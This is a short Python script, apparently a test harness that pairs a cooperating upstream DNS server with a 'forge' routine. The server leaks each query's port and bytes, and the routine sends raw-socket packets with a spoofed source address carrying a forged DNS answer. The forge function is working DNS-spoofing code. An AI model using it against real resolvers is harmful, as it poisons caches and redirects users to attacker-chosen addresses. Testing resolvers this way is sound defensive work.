"""An upstream DNS server that tells everything about a question, and a guest that answers in its name before it does.

upstream FILE    waits for a question, writes its sender's port and its octets to FILE, waits for FILE.forged, answers.
forge FILE FROM TO    sends, from FROM port 53 (which is not its own address), answers to the question in FILE to TO.
"""
import os, socket, struct, sys, time

TRUE, FORGED = '192.0.2.9', '192.0.2.66'


def wait_for(path):
    end = time.time() + 20
    while not os.path.exists(path):
        if time.time() > end:
            sys.exit(f'no {path}')
        time.sleep(0.01)


def answer(question, address):
    end = 12
    while question[end]:
        end += question[end] + 1
    end += 5
    record = b'\xc0\x0c' + struct.pack('!HHIH', 1, 1, 300, 4) + socket.inet_aton(address)
    return question[:2] + struct.pack('!HHHHH', 0x8180, 1, 1, 0, 0) + question[12:end] + record


def upstream(path):
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.settimeout(30)
    server.bind(('0.0.0.0', 53))
    question, client = server.recvfrom(4096)
    with open(path + '.new', 'w') as file:
        file.write(f'{client[1]} {question.hex()}')
    os.rename(path + '.new', path)
    wait_for(path + '.forged')
    time.sleep(0.2)
    server.sendto(answer(question, TRUE), client)
    while True:  # whatever is asked later
        question, client = server.recvfrom(4096)
        server.sendto(answer(question, TRUE), client)


def forge(path, source, destination):
    wait_for(path)
    port, question = open(path).read().split()
    message = answer(bytes.fromhex(question), FORGED)
    udp = struct.pack('!HHHH', 53, int(port), 8 + len(message), 0) + message
    head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                       socket.inet_aton(source), socket.inet_aton(destination))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for _ in range(5):
        raw.sendto(head + udp, (destination, 0))
    open(path + '.forged', 'w').close()


if __name__ == '__main__':
    {'upstream': upstream, 'forge': forge}[sys.argv[1]](*sys.argv[2:])
